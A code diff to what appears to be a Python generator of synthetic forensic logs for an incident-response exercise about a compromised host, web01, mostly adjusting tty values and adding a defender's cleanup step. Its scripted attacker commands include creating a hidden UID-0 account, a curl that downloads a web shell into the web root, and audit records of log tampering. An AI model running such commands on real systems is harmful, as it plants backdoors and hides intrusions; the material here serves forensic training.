@@ -100,7 +100,7 @@ def _persistence(h):
                      (AT["account"], ["/usr/sbin/useradd", "-o", "-u", "0", "-g", "0", "-d", "/var/lib/sysupd", "-m", "-s",
                                       "/bin/bash", "sysupd"]),
                      (AT["account"] + 21 * SECOND, ["passwd", "sysupd"])]:
-        command(h, t, 1001, s, 0, words, tty="pts3")
+        command(h, t, 1001, s, 0, words, tty="pts4")
     t, pid = AT["account"], h.pid(AT["account"])
     h.say(t + 30_000, AUTH, "useradd", pid, "new user: name=sysupd, UID=0, GID=0, home=/var/lib/sysupd, shell=/bin/bash, from=/dev/pts/4")
     h.say(t + 23 * SECOND, AUTH, "passwd", pid + 6, "pam_unix(passwd:chauthtok): password changed for sysupd")
@@ -122,8 +122,8 @@ def _persistence(h):
 
 def _web_shell(h):
     s = h.deploy_session
-    command(h, AT["web shell"] - 8 * SECOND, 1001, s, 0, ["curl", "-so", "/var/www/html" + SHELL_PAGE, DROP + "g.txt"], tty="pts3")
-    command(h, AT["web shell"], 1001, s, 0, ["chown", "www-data:www-data", "/var/www/html" + SHELL_PAGE], tty="pts3")
+    command(h, AT["web shell"] - 8 * SECOND, 1001, s, 0, ["curl", "-so", "/var/www/html" + SHELL_PAGE, DROP + "g.txt"], tty="pts4")
+    command(h, AT["web shell"], 1001, s, 0, ["chown", "www-data:www-data", "/var/www/html" + SHELL_PAGE], tty="pts4")
     agent = "python-requests/2.32.5"
     request(h, AT["first post"] - 9 * SECOND, SECOND_ADDRESS, "GET", SHELL_PAGE, 200, 0, agent)
     t, n = AT["first post"], 0
@@ -172,18 +172,21 @@ def _tampering(h):
         ("SYSCALL", f"arch=c000003e syscall=82 success=no exit=-1 a0=5633a1 a1=5633b2 a2=0 a3=0 items=4 ppid={pid - 2} pid={pid} auid=0 "
          "uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 "
          f"ses={s} comm=\"sed\" exe=\"/usr/bin/sed\" subj=unconfined key=\"logs\"", 'ARCH=x86_64 SYSCALL=rename AUID="root" UID="root"'),
-        ("PATH", "item=3 name=\"/var/log/auth.log\" inode=91 dev=fe:01 mode=0100640 ouid=0 ogid=4 rdev=00:00 nametype=DELETE "
+        ("PATH", "item=3 name=\"/var/log/auth.log\" inode={AUTH_LOG_INODE} dev=fe:01 mode=0100640 ouid=0 ogid=4 rdev=00:00 nametype=DELETE "
          "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0", 'OUID="root" OGID="adm"')]))
 
 
 def _noticed(h, logins):
     t = AT["noticed"]
     s = logins.session(t, "jane", "192.0.2.15", 50522, "SHA256:" + FINGERPRINT["jane"], 50 * MINUTE)
+    moved = (AT["beat stopped"] - t) / MINUTE
     for after, what in [(3, "/usr/bin/last -f /var/log/wtmp"), (5, "/usr/bin/grep -r beat.sh /etc/cron.d"),
-                        (9, "/usr/bin/chmod 000 /var/www/html" + SHELL_PAGE), (12, "/usr/sbin/usermod -L sysupd"),
-                        (13, "/usr/bin/passwd -l deploy"), (49, "/usr/sbin/poweroff")]:
-        logins.sudo(t + after * MINUTE, "jane", "pts/0", "/home/jane", what)
-        command(h, t + after * MINUTE + 9_000, 1000, s, 0, what.split(" "), "/home/jane", tty="pts0")
+                        (9, "/usr/bin/chmod 000 /var/www/html" + SHELL_PAGE),
+                        (moved, "/usr/bin/mv /etc/cron.d/php-session-gc /root/php-session-gc.found"),
+                        (12, "/usr/sbin/usermod -L sysupd"), (13, "/usr/bin/passwd -l deploy"), (49, "/usr/sbin/poweroff")]:
+        when = t + int(after * MINUTE)
+        logins.sudo(when, "jane", "pts/0", "/home/jane", what)
+        command(h, when + 9_000, 1000, s, 0, what.split(" "), "/home/jane", tty="pts0")
     h.say(AT["beat stopped"], CRON, "cron", 655, "(*system*php-session-gc) RELOAD (/etc/cron.d/php-session-gc)")
     h.say(t + 20 * MINUTE, USER, "jane", h.pid(t), "web01 is compromised: beat.sh, sysupd, img_4471.php. "
           "I leave all as it is and shut down for imaging")
